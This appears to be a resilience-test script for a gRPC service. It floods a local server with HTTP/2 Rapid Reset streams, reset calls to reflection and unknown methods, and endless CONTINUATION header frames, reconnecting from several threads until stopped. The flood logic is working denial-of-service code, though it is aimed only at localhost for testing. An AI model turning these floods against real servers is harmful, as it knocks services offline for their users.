"""Floods of HTTP/2, sent from 127.0.0.2 until SIGTERM, that a gRPC server must survive.

    http2_attack.py KIND PORT [--connections N] [--key KEY] [--ca FILE]

KIND is one of KINDS. It prints "ready" before it begins, and "busy" when it has sent more than a MiB. At SIGTERM it
prints JSON: bytes sent, connections that were cut off, and connections refused.
"""

import argparse
import collections
import contextlib
import json
import os
import signal
import socket
import ssl
import sys
import threading
import time

from http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    RESET,
    SETTINGS,
    field,
    frame,
    headers,
)

SOURCE = "127.0.0.2"
MIB = 1 << 20
STREAMS = 200_000  # on a connection, before it starts another one
CANCEL = b"\x00\x00\x00\x08"
EMPTY = b"\x00\x00\x00\x00\x00"  # an empty message
SERVICES = "/runnel.v1."


def indexed(name: bytes, value: bytes) -> bytes:
    """A header that later requests name by one byte."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


def resets(path: str, key: str, body: bytes | None) -> bytes:
    """Calls that start and are reset at once."""
    pairs = {
        b":path": path,
        b":authority": "x",
        b"content-type": "application/grpc",
        b"te": "trailers",
    }
    if key:
        pairs[b"authorization"] = f"Bearer {key}"
    first = b"\x83\x86" + b"".join(indexed(name, value.encode()) for name, value in pairs.items())
    again = b"\x83\x86" + bytes(0x80 | 61 + len(pairs) - at for at in range(len(pairs)))
    parts = []
    for number in range(STREAMS):
        stream = 2 * number + 1
        parts.append(frame(HEADERS, END_HEADERS, stream, again if number else first))
        if body is not None:
            parts.append(frame(DATA, END_STREAM, stream, body))
        parts.append(frame(RESET, 0, stream, CANCEL))
    return b"".join(parts)


def endless_headers(name: bytes, value: bytes, of_a_frame: int) -> bytes:
    """The headers of one call, in CONTINUATION frames that never end."""
    more = frame(CONTINUATION, 0, 1, field(name, value) * of_a_frame)
    return frame(HEADERS, 0, 1, headers("Inference/Generate")) + more * (8 * STREAMS * 10 // len(more))


KINDS = {
    "reset": lambda key: resets(SERVICES + "Inference/Generate", key, EMPTY),
    "reset without a message": lambda key: resets(SERVICES + "Inference/Generate", key, None),
    "reset of streams": lambda key: resets(SERVICES + "Inference/Score", key, None),
    "reset of unknown methods": lambda key: resets("/none", key, None),
    "reset of reflection": lambda key: resets(
        "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", key, None
    ),
    "small headers": lambda _: endless_headers(b"a", b"", 300),
    "continuation": lambda _: endless_headers(b"abcdefgh", b"x" * 100, 100),
}


class Flood:
    def __init__(self, kind: str, port: int, key: str, ca: str, busy: int) -> None:
        self.port, self.bytes, self.busy_bytes = port, KINDS[kind](key), busy * MIB
        self.context = ssl.create_default_context(cafile=ca) if ca else None
        if self.context is not None:
            self.context.set_alpn_protocols(["h2"])
        self.counts: collections.Counter[str] = collections.Counter()
        self.busy, self.over = threading.Event(), threading.Event()

    def connect(self) -> socket.socket:
        connection = socket.create_connection(("127.0.0.1", self.port), timeout=10, source_address=(SOURCE, 0))
        if self.context is None:
            return connection
        return self.context.wrap_socket(connection, server_hostname="127.0.0.1")

    def attack(self) -> None:
        """Sends as fast as the server reads. Connects again if it is cut off."""
        while not self.over.is_set():
            try:
                connection = self.connect()
            except OSError:
                self.counts["refused"] += 1
                time.sleep(0.01)
                continue
            with connection, contextlib.suppress(OSError):
                self.send(connection)
                continue
            self.counts["cut off"] += 1

    def send(self, connection: socket.socket) -> None:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        if self.context is None:  # only one thread may use an SSL socket
            threading.Thread(target=drain, args=(connection,), daemon=True).start()
        at = 0
        while at < len(self.bytes) and not self.over.is_set():
            sent = connection.send(self.bytes[at : at + 65536])
            self.counts["bytes"] += sent
            at += sent
            if self.counts["bytes"] > self.busy_bytes:
                self.busy.set()

    def tell_when_busy(self) -> None:
        self.busy.wait()
        print("busy", flush=True)


def drain(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--key", default="")
    parser.add_argument("--ca", default="")
    parser.add_argument("--busy", type=int, default=1, help="MiB that it has sent when it says that it is busy")
    words = parser.parse_args()
    flood = Flood(words.kind, words.port, words.key, words.ca, words.busy)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM})
    os.nice(5)
    threads = [threading.Thread(target=flood.attack, daemon=True) for _ in range(words.connections)]
    print("ready", flush=True)
    threading.Thread(target=flood.tell_when_busy, daemon=True).start()
    for thread in threads:
        thread.start()
    signal.sigwait({signal.SIGTERM})
    flood.over.set()
    for thread in threads:
        thread.join(2)
    json.dump(dict(flood.counts), sys.stdout)


if __name__ == "__main__":
    main()
